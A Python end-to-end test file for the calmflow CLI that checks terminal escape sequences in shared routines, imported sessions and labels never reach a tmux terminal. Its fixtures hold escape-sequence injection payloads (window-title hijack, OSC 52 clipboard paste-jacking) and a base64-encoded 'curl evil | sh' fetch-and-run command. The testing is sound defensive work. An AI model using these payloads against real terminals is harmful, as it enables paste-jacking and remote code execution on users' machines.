"""Escape sequences in shared and imported text never reach the terminal.

A shared routine, an imported session and a part's label carry what a terminal
obeys: OSC 0 (set the window title) and OSC 52 (write the clipboard:
paste-jacking), a right-to-left override, a carriage return. Every command that
shows them and every screen of the player runs in tmux with `set-clipboard on`
(so OSC 52 would land in tmux's paste buffers); afterwards the pane's title is
what it was and no paste buffer exists. Before calmflow made text terminal-safe,
`check`, `routines`, `log`, `review`, `export --format csv`, `parts`, the home
screen and the player all failed this.
"""

from __future__ import annotations

import base64
import json
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from calmflow import cli
from tests.e2e.conftest import Tmux

pytestmark = pytest.mark.e2e

TITLE = "\x1b]0;PWNED\x07"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07"
HOSTILE = f"{TITLE}{CLIPBOARD}\u202eevil\r"
CALMFLOW = f"{sys.executable} -m calmflow"


def _yaml_text(text: str) -> str:
    """A YAML double-quoted scalar of `text` (YAML writes ESC as \\e, BEL as \\a)."""
    return json.dumps(text).replace("\\u001b", "\\e").replace("\\u0007", "\\a")


@pytest.fixture
def hostile_home(home: Path, tmp_path: Path) -> Path:
    routines = home / "routines"
    routines.mkdir(parents=True)
    (routines / "evil.yaml").write_text(
        f"""version: 1
name: evil
description: {_yaml_text("Shared by a friend " + HOSTILE)}
breathing:
  inhale_s: 1
  exhale_s: 2
cues:
  look:
    text: {_yaml_text("Look " + HOSTILE)}
phases:
  - name: Settle
    kind: prep
    duration: 20s
    prompt: {_yaml_text("Settle in " + HOSTILE)}
    cues: [look]
  - name: Stimulation
    kind: stimulation
    duration: 20s
    prompt: Light and fast.
""",
        encoding="utf-8",
    )
    run = CliRunner()
    done = run.invoke(
        cli.main, ["log", "add", "--minutes", "15", "--total", "90", "--notes", HOSTILE]
    )
    assert done.exit_code == 0, done.output
    # A session from someone else's file: its routine's name carries the sequences.
    exported = json.loads(run.invoke(cli.main, ["export"]).stdout)
    session = exported["sessions"][0]
    session["uuid"] = "0b0d5a8e-2c1e-4a36-9d0f-5a1c2b3d4e5f"
    session["routine"] = "friend" + HOSTILE
    shared = tmp_path / "shared.json"
    shared.write_text(json.dumps(exported), encoding="utf-8")
    done = run.invoke(cli.main, ["import", str(shared)])
    assert done.exit_code == 0, done.output
    done = run.invoke(cli.main, ["parts", "add", "duckbill", "--label", "left " + HOSTILE])
    assert done.exit_code == 0, done.output
    return home


@pytest.fixture
def term(tmp_path: Path) -> Tmux:
    term = Tmux(tmp_path / "tmux.sock")
    yield term
    term.kill()


def _untouched(term: Tmux) -> None:
    title = term._run("display-message", "-p", "-t", "t", "#{pane_title}").strip()
    assert "PWNED" not in title
    assert term._run("list-buffers").strip() == "", "OSC 52 wrote the clipboard"


def _start(term: Tmux, command: str, home: Path) -> None:
    term.start(command, {"CALMFLOW_HOME": str(home), "TERM": "xterm-256color"})
    term._run("set-option", "-g", "set-clipboard", "on")


def test_no_command_lets_an_escape_sequence_through(hostile_home: Path, term: Tmux, tmp_path):
    script = tmp_path / "commands.sh"
    commands = [
        "check evil",
        "check " + str(hostile_home / "routines" / "evil.yaml"),
        "routines",
        "log",
        "review",
        "export --format csv",
        "parts",
        "next",
        "play " + json.dumps("friend" + HOSTILE).replace("\\u001b", "$'\\e'"),
    ]
    script.write_text(
        "sleep 0.5\n"  # tmux takes set-clipboard before anything is printed
        + "".join(f"{CALMFLOW} {c}\n" for c in commands)
        + f"{CALMFLOW} play $'x\\e]0;PWNED\\a'\n"
        + f"{CALMFLOW} export --format $'\\e]52;c;ZXZpbA==\\a'\n"
        + "echo ALL-DONE\nsleep 60\n",
        encoding="utf-8",
    )
    _start(term, f"bash {script}", hostile_home)
    screen = term.wait_for("ALL-DONE", timeout=60)
    assert "\\x1b]0;PWNED\\x07" in screen  # the sequences are shown, written out
    assert "Traceback" not in screen
    _untouched(term)


def test_no_screen_lets_an_escape_sequence_through(hostile_home: Path, term: Tmux, tmp_path):
    _start(term, f"{CALMFLOW}; sleep 60", hostile_home)
    term.wait_for("choose a routine")
    term.keys("s")  # the sessions, with the imported routine's name and the notes
    term.wait_for("newest first")
    for key, shows in (("r", "Time to the first"), ("c", "duckbill")):  # review; care
        term.keys("Escape")
        term.wait_for("choose a routine")
        term.keys(key)
        term.wait_for(shows)
    _untouched(term)
    # The player, in a terminal of its own (a server being killed takes a moment).
    player = Tmux(tmp_path / "player.sock")
    try:
        _start(player, f"{CALMFLOW} play evil --output null; sleep 60", hostile_home)
        screen = player.wait_for("Settle in")  # the prompt and the cue's text are on screen
        assert "\\x1b]0;PWNED" in screen
        _untouched(player)
    finally:
        player.kill()
